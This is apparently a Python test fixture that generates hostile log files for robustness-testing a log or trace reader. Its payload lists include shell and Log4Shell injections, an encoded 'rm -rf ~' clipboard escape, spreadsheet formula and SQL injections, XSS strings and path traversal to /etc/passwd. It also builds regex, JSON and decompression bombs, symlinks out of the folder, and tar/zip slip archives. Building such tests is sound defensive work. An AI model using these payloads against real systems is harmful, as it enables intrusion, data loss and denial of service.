"""Hostile logs: texts that would be obeyed if something took them for more than text, in every field of lines of many forms.

A text that runs leaves a trace: a file named CANARY, or `fired` in a page.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import socket
import tarfile
import zipfile
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import zstandard

CANARY = "CANARY"

TERMINAL = (
    "\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07",
    "\x1b]52;c;cm0gLXJmIH4=\x07",
    "\x1b]0;title\x07\x1b[2J\x1b[1;1H\x1b[31mred",
    "\x1bP+q544e\x1b\\ \x1b_x\x1b\\ \x1b^x\x1b\\ \x1b#8 \x1bc",
    "\x9b31m\x9d52;c;eA==\x9c\x90q\x9c",
    "over\rwritten \x08\x08\x08\x7f \x07\x00 \x0b\x0c",
    "\u202egnp.exe\u202c \u2066isolated\u2069 \u200e\u200f\u061c",
    "zero\u200bwidth\u2060\ufeff\u00ad\u034f \u2028line\u2029paragraph",
    "\U000e0041\U000e007f tags \U000e0100 \ufff9\ufffb",
    "e" + "\u0301" * 300,
    "\ud800 lone \udfff",
)
SHELLS = (
    f"$(touch {CANARY})",
    f"`touch {CANARY}`",
    f"; touch {CANARY} #",
    f"| touch {CANARY}",
    f"x\ntouch {CANARY}\n",
    "${jndi:ldap://evil.example/a}",
    "%s%s%n %(x)s {0.__class__.__mro__} ${x} $x $$ \\g<0> \\1",
    f"__import__('os').system('touch {CANARY}')",
    "--help",
    "-rf",
    "@/etc/passwd",
    "!!python/object/apply:os.system ['touch CANARY']",
)
SHEETS = (
    '=HYPERLINK("http://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '"\n=1+1',
)
QUERIES = (
    "'; DROP TABLE span; --",
    '" OR 1=1 --',
    "%' ESCAPE '\\",
    "') UNION SELECT path, 1 FROM source --",
    "x'00'",
    "a AND (b OR",
    "'\" ` [x] {y} (z) \\",
    'NEAR("a" "b") NOT col: ^x* -y',
)
PAGES = (
    "<script>window.fired=1</script>",
    "<img src=x onerror=window.fired=1>",
    "\"'><svg onload=window.fired=1>",
    "</script><script>window.fired=1</script>",
    "<!--<script>",
    "]]><x/>&#x3c;&lt;&fired;",
    "javascript:window.fired=1",
    "{{constructor.constructor('window.fired=1')()}}",
    "[x](javascript:window.fired=1) ![x](http://evil.example/x) ``` | a | b |\n|---|",
    "[red]x[/red] [link=http://evil.example]x[/link] [/]",
    "::error file=x::y %0A ::set-output name=x::y ##[endgroup]",
    'a{b="c",d="e\\"} 1\n# TYPE x counter',
    'digraph { "];" } -->|x| click a "javascript:window.fired=1"',
    "__proto__",
    "constructor",
)
PATHS = (
    "../../../../" + CANARY,
    "/etc/passwd",
    "..\\..\\x",
    "C:\\con",
    "a/../../b",
    "\x00/x",
    "~root/x",
    "a" * 5000,
    "file:///etc/passwd",
    "*?[a]{b}",
)
PATTERNS = (
    "(a+)+$" + "a" * 40,
    "((((((((((a*)*)*)*)*)*)*)*)*)*",
    "(?P<x>",
    "[",
    "a{1000}{1000}",
    "\\",
    "(?i)(?s)(?m).*",
    "^(([a-z])+.)+[A-Z]([a-z])+$",
)
NUMBERS = (
    "1e400",
    "-1e400",
    "NaN",
    "Infinity",
    "9" * 400,
    "-0",
    str(1 << 63),
    str(1 << 64),
    "-9223372036854775809",
    "0x10",
    "1_000",
    "١٢٣",
)
PAYLOADS: tuple[str, ...] = (*TERMINAL, *SHELLS, *SHEETS, *QUERIES, *PAGES, *PATHS, *PATTERNS, *NUMBERS)

_COLLIDING = (
    "4BF92F3577B34DA6A3CE929D0E0E4736",
    "4bf92f35-77b3-4da6-a3ce-929d0e0e4736",
    "0x4bf92f3577b34da6a3ce929d0e0e4736",
    "a3ce929d0e0e4736",
    "00000000000000000000000000000000",
    "0",
    "ffffffffffffffffffffffffffffffff",
    "4bf92f3577b34da6a3ce929d0e0e473",
    " 4bf92f3577b34da6a3ce929d0e0e4736 ",
)


def usual_line(number: int) -> bytes:
    """A line as most are."""
    fields = {"timestamp": f"2024-01-10T14:30:{number % 60:02d}.5Z", "level": "info", "msg": "done", "service": "edge"}
    ids = {"trace_id": hex_id(7), "span_id": f"{number + 1:016x}", "operation": "op", "duration_ms": number}
    return json.dumps({**fields, **ids}).encode()


def hex_id(number: int) -> str:
    """The id of the trace in which payload `number` is told, with a usual id."""
    return f"{number + 1:08x}{'5eed' * 6}"


def lines(payload: str, number: int) -> Iterator[str]:
    """Lines with a payload in every field: a trace with that as its id, and one with a usual id, of two spans each."""
    for trace in (payload, hex_id(number)):
        for span in range(2):
            fields = {
                "trace_id": trace, "span_id": f"{payload}{span}" if trace == payload else f"{number:08x}{span + 1:08x}",
                "service": payload, "operation": payload, "msg": payload, "time": f"2024-01-10T14:30:{number % 60:02d}.{span}00Z",
                "duration_ms": 5, "kind": payload, "level": "error" if span else payload, "host": payload, "thread": payload,
                payload: payload, f"nested.{payload}": {payload: [payload, {payload: None}]}, "session_id": payload,
                "request_id": payload, "links": [{"trace_id": payload, "span_id": payload}],
            }  # fmt: skip
            if span:
                fields |= {"error": payload, "error.type": payload, "error.stack": payload}
                fields["parent_span_id"] = f"{payload}0" if trace == payload else f"{number:08x}{1:08x}"
            yield json.dumps(fields)


def odd_lines(payload: str, number: int) -> Iterator[str]:
    """The same text where lines are no JSON, or wrapped."""
    flat = " ".join(payload.split()).encode("utf-8", "replace").decode()
    at, trace = f"2024-01-10T14:31:{number % 60:02d}Z", hex_id(number)
    inner = json.dumps({"trace_id": trace, "span_id": "c" * 16, "msg": payload, "time": at, "duration_ms": 1, "service": payload})
    yield f"time={at} level=info msg={json.dumps(payload)} trace_id={trace} span_id={'d' * 16} duration=3ms {flat}=1"
    yield f"{at} [INFO] [{flat}] {flat} trace_id={trace} span_id={'e' * 16} duration_ms=2"
    yield json.dumps({"log": inner + "\n", "stream": payload, "time": at, "attrs": {payload: payload}})
    yield f"{at} stdout F {inner}"
    yield f"<34>1 {at} {flat} {flat} - - [{flat} x={json.dumps(payload)}] {inner}"


def bombs() -> Iterator[str]:
    """JSON that is deep, wide, long, or has numbers that no machine has; and ids that may be the same or not."""
    usual = f'"time":"2024-01-10T14:32:00Z","trace_id":"{hex_id(9999)}","span_id":"{"f" * 16}","duration_ms":1'
    yield f'{{{usual},"deep":{"[" * 5000}{"]" * 5000}}}'
    yield f'{{{usual},"deep":{"{" * 1}"a":{{"a":' * 900 + "1" + "}}" * 900 + "}"
    yield f"{{{usual},{','.join(f'''{chr(34)}k{n}{chr(34)}:{n}''' for n in range(50_000))}}}"
    yield f'{{{usual},"number":{"9" * 100_000}}}'
    yield f'{{{usual},"number":1e{"9" * 50}}}'
    yield f'{{{usual},"text":"{"x" * 3_000_000}"}}'
    yield f'{{{usual},"{"k" * 100_000}":1}}'
    yield f'{{{usual},"duration_ms":-1,"duration_ms":1e308,"timestamp":{10**30}}}'
    yield f'{{{usual},"deep":{"[" * 1000}{"]" * 1000}}}'
    yield "[" * 100_000
    yield '{"a":' * 50_000
    for trace in _COLLIDING:
        for span in ("a3ce929d0e0e4736", "A3CE929D0E0E4736", "-6643211197081565386", "0"):
            yield json.dumps(
                {"time": "2024-01-10T14:33:00Z", "trace_id": trace, "span_id": span, "duration_ms": 1, "msg": "same?"}
            )


NAMES = (
    "\x1b[31mred\x1b]52;c;eA==\x07.log",
    "<img src=x onerror=window.fired=1>.log",
    "$(touch CANARY).log",
    "a\nb.log",
    "--help.log",
    "=1+1.log",
    "\u202egol.log",
)


def write_logs(folder: Path) -> None:
    """A folder of hostile logs: regular files whose names are hostile as well."""
    folder.mkdir()
    for number, payload in enumerate(PAYLOADS):
        with (folder / NAMES[number % len(NAMES)]).open("a", encoding="utf-8", errors="surrogatepass") as log:
            log.writelines(f"{line}\n" for line in (*lines(payload, number), *odd_lines(payload, number)))
    (folder / "bombs.jsonl").write_text("".join(f"{line}\n" for line in bombs()))


def write_places(folder: Path) -> None:
    """What is in the way of somebody who reads a folder: links, pipes, devices, sockets, archives that lead out of it, bombs."""
    folder.mkdir()
    (folder / "loop.log").symlink_to("loop.log")
    (folder / "up").symlink_to("..")
    (folder / "secret.log").symlink_to("/etc/passwd")
    (folder / "dangling.log").symlink_to("nowhere")
    os.mkfifo(folder / "pipe.log")
    (folder / "zero.log").symlink_to("/dev/zero")
    (folder / "tty.log").symlink_to("/dev/tty")
    with closing(socket.socket(socket.AF_UNIX)) as listening:
        here = os.open(folder, os.O_RDONLY)
        listening.bind(f"/proc/self/fd/{here}/socket.log")
        os.close(here)
    line = next(lines("from an archive", 1)).encode() + b"\n"
    write_tar(folder / "logs.tar", line)
    _zip(folder / "logs.zip", line)
    zeros = bytes(1 << 20)
    with gzip.open(folder / "bomb.log.gz", "wb") as bomb:
        for _ in range(400):
            bomb.write(zeros)
    (folder / "layers.log.gz").write_bytes(_layers(gzip.compress(line), 12))
    (folder / "bomb.log.zst").write_bytes(zstandard.ZstdCompressor(level=3).compress(zeros * 300))


def _layers(data: bytes, many: int) -> bytes:
    for _ in range(many):
        data = gzip.compress(data)
    return data


def write_tar(path: Path, line: bytes) -> None:
    """An archive whose members lead out of it, or are no files."""
    with tarfile.open(path, "w") as archive:
        for name in (f"../../{CANARY}.log", f"/tmp/{CANARY}.log", "ok.log", "\x1b[31m.log", "a/../../b.log"):
            member = tarfile.TarInfo(name)
            member.size = len(line)
            archive.addfile(member, io.BytesIO(line))
        for kind, name in (
            (tarfile.SYMTYPE, "link.log"),
            (tarfile.LNKTYPE, "hard.log"),
            (tarfile.CHRTYPE, "dev.log"),
            (tarfile.FIFOTYPE, "fifo.log"),
        ):
            member = tarfile.TarInfo(name)
            member.type, member.linkname = kind, "/etc/passwd"
            archive.addfile(member)


def write_small_zip(path: Path, line: bytes) -> None:
    """An archive whose members lead out of it."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in (f"../../{CANARY}.log", f"/tmp/{CANARY}.log", "ok.log", "..\\x.log"):
            archive.writestr(name, line)


def _zip(path: Path, line: bytes) -> None:
    write_small_zip(path, line)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb.log", bytes(200 << 20))
